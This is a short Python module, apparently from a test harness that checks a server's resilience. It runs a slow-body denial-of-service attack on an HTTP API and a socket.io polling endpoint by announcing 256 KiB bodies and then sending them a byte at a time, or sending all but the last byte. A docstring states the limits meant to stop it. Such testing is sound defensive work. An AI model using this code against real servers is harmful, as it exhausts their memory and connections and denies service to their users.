"""Bodies that never come.

Does: announces bodies of 256 KiB, to polling sessions and to the HTTP API, and sends a byte a second; or all but the
    last byte.
Breaks: room for each announced body is set aside, and each request occupies its connection for ever.
Limit: a body must be complete within 30 s; 64 connections of an address, 256 KiB each.
"""

import asyncio

from lines import Line, polling, request

PROOF = "bodies"

SIZE = 256 << 10


async def attack(target):
    await asyncio.gather(
        target.crowd(20, drip, True), target.crowd(20, drip, False), target.crowd(20, all_but_the_last_byte)
    )


async def drip(target, as_session):
    async with await Line.open(target) as line:
        await line.send(await head(target, line, as_session))
        while target.is_on():
            await line.send(b"x")
            await target.pause(1)


async def all_but_the_last_byte(target):
    async with await Line.open(target) as line:
        await line.send(await head(target, line, False) + b"x" * (SIZE - 1))
        await target.pause(60)


async def head(target, line, as_session):
    target.tally("bodies")
    path = "/api/rooms/x/elements"
    if as_session:
        path = f"/socket.io/?EIO=4&transport=polling&sid={await polling(target, line)}"
    return request("POST", path, f"Content-Length: {SIZE}", f"Authorization: Bearer {target.token}")
